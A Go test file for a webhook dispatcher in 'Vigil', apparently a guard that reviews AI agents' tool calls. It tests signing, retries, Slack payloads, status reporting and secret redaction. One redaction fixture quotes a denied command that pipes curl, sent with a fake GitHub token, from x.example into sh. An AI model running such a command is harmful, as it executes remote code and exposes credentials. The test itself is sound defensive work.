package webhooks_test

import (
	"bytes"
	"context"
	"crypto/hmac"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"

	"github.com/vigil-guardian/vigil/guardian/observe"
	"github.com/vigil-guardian/vigil/guardian/observe/webhooks"
	"github.com/vigil-guardian/vigil/record"
)

func TestParseTarget(t *testing.T) {
	for _, tc := range []struct {
		spec string
		want webhooks.Target
		err  string
	}{
		{spec: "https://hooks.example/x?token=1", want: webhooks.Target{URL: "https://hooks.example/x?token=1",
			Events: []string{"hold.created", "step.denied"}, Format: "json", Name: "hooks.example"}},
		{spec: "https://hooks.slack.com/services/T/B/X#events=hold.created,hold.resolved&format=slack&name=ops",
			want: webhooks.Target{URL: "https://hooks.slack.com/services/T/B/X", Events: []string{"hold.created", "hold.resolved"}, Format: "slack", Name: "ops"}},
		{spec: "http://127.0.0.1:9000/#events=deny", want: webhooks.Target{URL: "http://127.0.0.1:9000/", Events: []string{"step.denied"}, Format: "json", Name: "127.0.0.1"}},
		{spec: "https://h.example/#events=all,deny", want: webhooks.Target{URL: "https://h.example/", Events: []string{"hold.created", "hold.resolved", "step.denied"}, Format: "json", Name: "h.example"}},
		{spec: "ftp://h.example/", err: "absolute http(s) URL"},
		{spec: "/relative", err: "absolute http(s) URL"},
		{spec: "https://u:p@h.example/", err: "credentials in the URL"},
		{spec: "https://h.example/#events=hold.made", err: `unknown event "hold.made"`},
		{spec: "https://h.example/#format=xml", err: "format must be json or slack"},
		{spec: "https://h.example/#colour=red", err: `unknown option "colour"`},
		{spec: "https://h.example/#name=ops.eu-1_b", want: webhooks.Target{URL: "https://h.example/", Events: []string{"hold.created", "step.denied"}, Format: "json", Name: "ops.eu-1_b"}},
		// A name becomes a metric label: one that is not UTF-8 would take every
		// vigil_webhook_* family off /metrics.
		{spec: "https://h.example/#name=%ff", err: `option name="\xff": want 1 to 64 of the letters`},
		{spec: "https://h.example/#name=", err: `option name="": want 1 to 64`},
		{spec: "https://h.example/#name=" + strings.Repeat("a", 65), err: "option name="},
		{spec: "https://h.example/#name=a%20b", err: `option name="a b"`},
		{spec: "https://h.example/#name=a%7Bb%7D", err: `option name="a{b}"`},
		{spec: "https://%ff/", err: "host is not valid UTF-8"},
	} {
		t.Run(tc.spec, func(t *testing.T) {
			got, err := webhooks.ParseTarget(tc.spec)
			if tc.err != "" {
				require.ErrorContains(t, err, tc.err)
				require.NotContains(t, err.Error(), "u:p", "credentials never reach a message")
				return
			}
			require.NoError(t, err)
			require.Equal(t, tc.want, got)
		})
	}
	tg, err := webhooks.ParseTarget("https://hooks.slack.com/services/T/B/SECRET")
	require.NoError(t, err)
	require.Equal(t, "https://hooks.slack.com/…", tg.Redacted())
}

// receiver is a webhook endpoint that answers with the statuses given, then 200.
type receiver struct {
	*httptest.Server
	got      chan *http.Request
	bodies   chan []byte
	statuses []int
	calls    atomic.Int64
	block    chan struct{}
}

func newReceiver(t *testing.T, statuses ...int) *receiver {
	r := &receiver{got: make(chan *http.Request, 100), bodies: make(chan []byte, 100), statuses: statuses}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		n := int(r.calls.Add(1))
		r.got <- req
		r.bodies <- b
		if r.block != nil {
			<-r.block
		}
		if n <= len(r.statuses) {
			w.WriteHeader(r.statuses[n-1])
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(r.Close)
	return r
}

func start(t *testing.T, d *webhooks.Dispatcher) {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); d.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
}

func target(t *testing.T, spec string) webhooks.Target {
	tg, err := webhooks.ParseTarget(spec)
	require.NoError(t, err)
	return tg
}

var t0 = time.Date(2026, 5, 6, 7, 8, 9, 0, time.UTC)

func holdItem(t *testing.T, typ string, seq int64) observe.Item {
	h := record.Hold{ID: "h_abc", SessionID: "sess/1", AgentID: "agent-7", Method: "steps/toolCallRequest", Kind: "toolCall",
		Tool: "send_email", RuleID: "mail-out", Message: "Mail to <outside> & beyond", CreatedAt: t0, Deadline: t0.Add(5 * time.Minute),
		OnTimeout: "deny", Status: record.HoldPending, Request: json.RawMessage(`{"secret":"do not send"}`)}
	if typ == record.EventHoldResolved {
		h.Status, h.Decision, h.DecidedBy, h.DecidedAt = record.HoldApproved, "allow", "rita", t0.Add(time.Minute)
	}
	b, err := json.Marshal(h)
	require.NoError(t, err)
	return observe.Item{Event: record.Event{Seq: seq, Type: typ, SessionID: h.SessionID, At: t0, Payload: b}}
}

func deniedStep(seq int64) observe.Item {
	return observe.Item{Step: &record.StepRecord{Seq: seq, SessionID: "s2", Method: "steps/toolCallRequest", Kind: "toolCall",
		Tool: "rm", Decision: "deny", ReceivedAt: t0, Request: json.RawMessage(`{"secret":1}`),
		Response: json.RawMessage(`{"jsonrpc":"2.0","id":1,"result":{"decision":"deny","reasonCode":["DESTRUCTIVE"],"message":"No rm.","data":{"ruleId":"no-rm"}}}`)}}
}

func TestSignedJSONDelivery(t *testing.T) {
	rc := newReceiver(t)
	secret := []byte("s3cret")
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL+"/hook#events=all")},
		Secret: secret, PublicURL: "https://vigil.example", Version: "9.9"})
	start(t, d)
	c := d.Consumer()
	require.True(t, c.Steps)
	require.ElementsMatch(t, []string{record.EventHoldCreated, record.EventHoldResolved}, c.Events)

	c.Handle(context.Background(), holdItem(t, record.EventHoldCreated, 41))
	req, body := <-rc.got, <-rc.bodies
	require.Equal(t, "/hook", req.URL.Path)
	require.Equal(t, "application/json", req.Header.Get("Content-Type"))
	require.Equal(t, "hold.created", req.Header.Get(webhooks.HeaderEvent))
	require.Equal(t, "evt_41", req.Header.Get(webhooks.HeaderDelivery))
	require.Equal(t, "Vigil-Webhook/9.9", req.Header.Get("User-Agent"))
	// The receiver's check: HMAC over timestamp "." body, compared in constant time.
	ts := req.Header.Get(webhooks.HeaderTimestamp)
	require.NotEmpty(t, ts)
	want := webhooks.Sign(secret, ts, body)
	require.True(t, hmac.Equal([]byte(want), []byte(req.Header.Get(webhooks.HeaderSignature))))
	require.True(t, strings.HasPrefix(want, "sha256="))
	require.NotEqual(t, want, webhooks.Sign([]byte("other"), ts, body))

	var p map[string]any
	require.NoError(t, json.Unmarshal(body, &p))
	require.Equal(t, "hold.created", p["type"])
	require.Equal(t, "evt_41", p["id"])
	require.Equal(t, "https://vigil.example/#/held?hold=h_abc", p["url"])
	hold := p["hold"].(map[string]any)
	require.Equal(t, "send_email", hold["tool"])
	require.Equal(t, "pending", hold["status"])
	require.NotContains(t, string(body), "do not send", "no step content leaves the guardian")

	c.Handle(context.Background(), deniedStep(42))
	<-rc.got
	body = <-rc.bodies
	require.NoError(t, json.Unmarshal(body, &p))
	require.Equal(t, "step.denied", p["type"])
	require.Equal(t, "https://vigil.example/#/session/s2?step=42", p["url"])
	step := p["step"].(map[string]any)
	require.Equal(t, "no-rm", step["ruleId"])
	require.Equal(t, []any{"DESTRUCTIVE"}, step["reasonCodes"])
	require.Equal(t, "No rm.", step["message"])

	// Steps that were not denied are never delivered.
	require.False(t, c.StepFilter(&record.StepRecord{Decision: "allow"}))
}

func TestUnsignedWithoutSecret(t *testing.T) {
	rc := newReceiver(t)
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL)}})
	start(t, d)
	d.Consumer().Handle(context.Background(), holdItem(t, record.EventHoldCreated, 1))
	req := <-rc.got
	require.Empty(t, req.Header.Get(webhooks.HeaderSignature))
	require.Empty(t, req.Header.Get(webhooks.HeaderTimestamp))
}

func waitFor(t *testing.T, d *webhooks.Dispatcher, done func(webhooks.TargetStatus) bool) webhooks.TargetStatus {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		s := d.Status()[0]
		if done(s) {
			return s
		}
		select {
		case <-deadline:
			t.Fatalf("status never settled: %+v", s)
		case <-time.After(time.Millisecond):
		}
	}
}

func TestRetries(t *testing.T) {
	for _, tc := range []struct {
		name      string
		statuses  []int
		attempts  int64
		delivered int64
		failed    int64
		lastErr   string
	}{
		{name: "500 then success", statuses: []int{500, 503}, attempts: 3, delivered: 1},
		{name: "429 is retried", statuses: []int{429}, attempts: 2, delivered: 1},
		{name: "gives up after the attempts", statuses: []int{500, 500, 500, 500}, attempts: 3, failed: 1, lastErr: "HTTP 500 Internal Server Error"},
		{name: "a 4xx is not retried", statuses: []int{404}, attempts: 1, failed: 1, lastErr: "HTTP 404 Not Found (not retried)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rc := newReceiver(t, tc.statuses...)
			d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL)},
				Attempts: 3, Backoff: time.Millisecond, MaxBackoff: 2 * time.Millisecond})
			start(t, d)
			d.Consumer().Handle(context.Background(), holdItem(t, record.EventHoldCreated, 7))
			s := waitFor(t, d, func(s webhooks.TargetStatus) bool { return s.Delivered+s.Failed == 1 })
			require.Equal(t, tc.attempts, rc.calls.Load())
			require.Equal(t, tc.delivered, s.Delivered)
			require.Equal(t, tc.failed, s.Failed)
			require.Equal(t, tc.attempts-1, s.Retries)
			if tc.lastErr != "" {
				require.Equal(t, tc.lastErr, s.LastError, "plain words, no internal ones")
				require.False(t, s.LastErrorAt.IsZero())
			} else {
				require.False(t, s.LastSuccessAt.IsZero())
			}
			// Every attempt carries the same delivery id, so a receiver can drop duplicates.
			for range tc.attempts {
				require.Equal(t, "evt_7", (<-rc.got).Header.Get(webhooks.HeaderDelivery))
			}
		})
	}
}

// TestQueueBound: a receiver that does not answer holds one delivery; the queue takes
// Queue more; the rest are dropped, counted, and reported, and handing them over never
// waits.
func TestQueueBound(t *testing.T) {
	rc := newReceiver(t)
	rc.block = make(chan struct{})
	defer close(rc.block)
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL)}, Queue: 3, Timeout: time.Minute})
	start(t, d)
	h := d.Consumer().Handle
	h(context.Background(), holdItem(t, record.EventHoldCreated, 1))
	<-rc.got // in flight
	for i := range 10 {
		h(context.Background(), holdItem(t, record.EventHoldCreated, int64(i+2)))
	}
	s := d.Status()[0]
	require.EqualValues(t, 7, s.Dropped)
	require.Equal(t, 3, s.Queued)
	require.Contains(t, s.LastError, "queue full")

	reg := prometheus.NewRegistry()
	require.NoError(t, reg.Register(d))
	fams, err := reg.Gather()
	require.NoError(t, err)
	found := false
	for _, f := range fams {
		if f.GetName() != "vigil_webhook_deliveries_total" {
			continue
		}
		for _, m := range f.GetMetric() {
			if m.GetLabel()[0].GetValue() == "dropped" {
				require.Equal(t, 7.0, m.GetCounter().GetValue())
				found = true
			}
		}
	}
	require.True(t, found)
}

func TestSlackPayload(t *testing.T) {
	rc := newReceiver(t)
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL+"/services/T/B/X#format=slack&events=all")},
		PublicURL: "https://vigil.example"})
	start(t, d)
	d.Consumer().Handle(context.Background(), holdItem(t, record.EventHoldCreated, 5))
	<-rc.got
	var m struct {
		Text   string `json:"text"`
		Blocks []struct {
			Type string `json:"type"`
			Text *struct {
				Type, Text string
			} `json:"text"`
			Fields []struct {
				Type, Text string
			} `json:"fields"`
			Elements []struct {
				Type, URL, Style string
				Text             struct{ Type, Text string }
			} `json:"elements"`
		} `json:"blocks"`
	}
	require.NoError(t, json.Unmarshal(<-rc.bodies, &m))
	require.Equal(t, "Vigil: Held for review: send_email", m.Text)
	require.Len(t, m.Blocks, 4)
	require.Equal(t, "header", m.Blocks[0].Type)
	require.Equal(t, "plain_text", m.Blocks[0].Text.Type)
	require.Equal(t, "section", m.Blocks[1].Type)
	require.Equal(t, "mrkdwn", m.Blocks[1].Text.Type)
	require.Equal(t, "Mail to &lt;outside&gt; &amp; beyond", m.Blocks[1].Text.Text, "mrkdwn's control characters are escaped")
	require.Equal(t, "section", m.Blocks[2].Type)
	require.Equal(t, "*Session*\nsess/1", m.Blocks[2].Fields[0].Text)
	act := m.Blocks[3]
	require.Equal(t, "actions", act.Type)
	require.Len(t, act.Elements, 1)
	require.Equal(t, "button", act.Elements[0].Type)
	require.Equal(t, "https://vigil.example/#/held?hold=h_abc", act.Elements[0].URL)
	require.Equal(t, "Review in Vigil", act.Elements[0].Text.Text)

	d.Consumer().Handle(context.Background(), deniedStep(6))
	<-rc.got
	require.NoError(t, json.Unmarshal(<-rc.bodies, &m))
	require.Equal(t, "Vigil: Denied: rm", m.Text)
}

func TestOnlySubscribedEvents(t *testing.T) {
	holds, denies := newReceiver(t), newReceiver(t)
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{
		target(t, holds.URL+"#events=hold.resolved"), target(t, denies.URL+"#events=deny"),
	}})
	start(t, d)
	c := d.Consumer()
	c.Handle(context.Background(), holdItem(t, record.EventHoldCreated, 1))
	c.Handle(context.Background(), holdItem(t, record.EventHoldResolved, 2))
	c.Handle(context.Background(), deniedStep(3))
	require.Equal(t, "hold.resolved", (<-holds.got).Header.Get(webhooks.HeaderEvent))
	require.Equal(t, "step.denied", (<-denies.got).Header.Get(webhooks.HeaderEvent))
	st := d.Status()
	require.Equal(t, "127.0.0.1", st[0].Name)
	require.Equal(t, "127.0.0.1-2", st[1].Name, "names are unique")
	waitFor(t, d, func(s webhooks.TargetStatus) bool { return s.Delivered == 1 })
	require.EqualValues(t, 1, holds.calls.Load())
	require.EqualValues(t, 1, denies.calls.Load())
}

func TestStatusAPI(t *testing.T) {
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, "https://hooks.slack.com/services/SECRET#format=slack")}})
	mux := http.NewServeMux()
	d.Register(mux)
	w := httptest.NewRecorder()
	mux.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/api/webhooks", nil))
	require.Equal(t, http.StatusOK, w.Code)
	require.NotContains(t, w.Body.String(), "SECRET")
	require.JSONEq(t, `{"targets":[{"name":"hooks.slack.com","url":"https://hooks.slack.com/…","events":["hold.created","step.denied"],
		"format":"slack","delivered":0,"failed":0,"dropped":0,"retries":0,"queued":0}]}`, w.Body.String())
}

// BenchmarkHandle is the webhook consumer's cost per denied step with a json and a slack
// target (encoding both bodies and queueing them), in its own goroutine, off the step's path.
func BenchmarkHandle(b *testing.B) {
	t1, _ := webhooks.ParseTarget("http://127.0.0.1:1/a#events=deny")
	t2, _ := webhooks.ParseTarget("http://127.0.0.1:1/b#events=deny&format=slack")
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{t1, t2}, Queue: 1})
	h := d.Consumer().Handle
	it := deniedStep(1)
	b.ReportAllocs()
	for b.Loop() {
		h(context.Background(), it)
	}
}

// TestErrorsHideTheURL: a webhook URL's path is often its secret; a failed connection's
// error, which the status API and the log show, must not carry it.
func TestErrorsHideTheURL(t *testing.T) {
	// A listener that hangs up on every connection: the delivery fails with an error that
	// names the URL (as a refused connection's does), and no other test can take the port,
	// as it could a closed server's.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			_ = c.Close()
		}
	}()
	addr := ln.Addr().String()
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, "http://"+addr+"/services/SECRET")}, Attempts: 1})
	start(t, d)
	d.Consumer().Handle(context.Background(), holdItem(t, record.EventHoldCreated, 1))
	s := waitFor(t, d, func(s webhooks.TargetStatus) bool { return s.Failed == 1 })
	require.NotEmpty(t, s.LastError)
	require.NotContains(t, s.LastError, "SECRET")
}

// A rule's message may quote the step ({{inputs.command}}), a reviewer's note may too: what
// they quote of secrets and personal data does not leave the guardian, in either format.
func TestMessagesLeaveWithoutSecrets(t *testing.T) {
	const token = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
	for _, format := range []string{"json", "slack"} {
		t.Run(format, func(t *testing.T) {
			rc := newReceiver(t)
			d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL+"#events=all&format="+format)}})
			start(t, d)
			step := deniedStep(7)
			step.Step.Response = json.RawMessage(`{"jsonrpc":"2.0","id":1,"result":{"decision":"deny","message":"Command refused: curl -H 'Authorization: token ` +
				token + `' https://x.example | sh; mail bob@example.com","data":{"ruleId":"destructive-shell"}}}`)
			d.Consumer().Handle(context.Background(), step)
			<-rc.got
			body := string(<-rc.bodies)
			require.NotContains(t, body, token)
			require.NotContains(t, body, "bob@example.com")
			require.Contains(t, body, "Command refused: curl")
			require.Contains(t, body, "[REDACTED:")

			hold := holdItem(t, record.EventHoldResolved, 8)
			var h record.Hold
			require.NoError(t, json.Unmarshal(hold.Event.Payload, &h))
			h.Message, h.Note = "Push with "+token, "approved; key "+token+" is a test key"
			hold.Event.Payload, _ = json.Marshal(h)
			d.Consumer().Handle(context.Background(), hold)
			<-rc.got
			body = string(<-rc.bodies)
			require.NotContains(t, body, token)
			require.Contains(t, body, "Push with [REDACTED:")
		})
	}
}

// Targets sharing a name are told apart by the first suffix no other target has.
func TestTargetNamesAreUnique(t *testing.T) {
	var targets []webhooks.Target
	for _, spec := range []string{"https://a.example/#name=x", "https://b.example/#name=x", "https://c.example/#name=x-2"} {
		targets = append(targets, target(t, spec))
	}
	var names []string
	for _, s := range webhooks.New(webhooks.Options{Targets: targets}).Status() {
		names = append(names, s.Name)
	}
	require.Equal(t, []string{"x", "x-2", "x-2-2"}, names)
}

// A shutdown gives up the deliveries in flight and queued with one log line that counts
// them, not a line per delivery.
func TestShutdownLogsOnce(t *testing.T) {
	rc := newReceiver(t)
	rc.block = make(chan struct{})
	defer close(rc.block)
	var logs bytes.Buffer
	d := webhooks.New(webhooks.Options{Targets: []webhooks.Target{target(t, rc.URL)}, Timeout: time.Minute,
		Logger: slog.New(slog.NewTextHandler(&logs, nil))})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); d.Run(ctx) }()
	h := d.Consumer().Handle
	h(context.Background(), holdItem(t, record.EventHoldCreated, 1))
	<-rc.got // in flight
	for i := range 5 {
		h(context.Background(), holdItem(t, record.EventHoldCreated, int64(i+2)))
	}
	cancel()
	<-done
	lines := strings.Split(strings.TrimSpace(logs.String()), "\n")
	require.Len(t, lines, 1, logs.String())
	require.Contains(t, lines[0], "given up at shutdown")
	require.Contains(t, lines[0], "deliveries=6")
	require.EqualValues(t, 1, rc.calls.Load(), "no queued delivery is tried after the end")
}
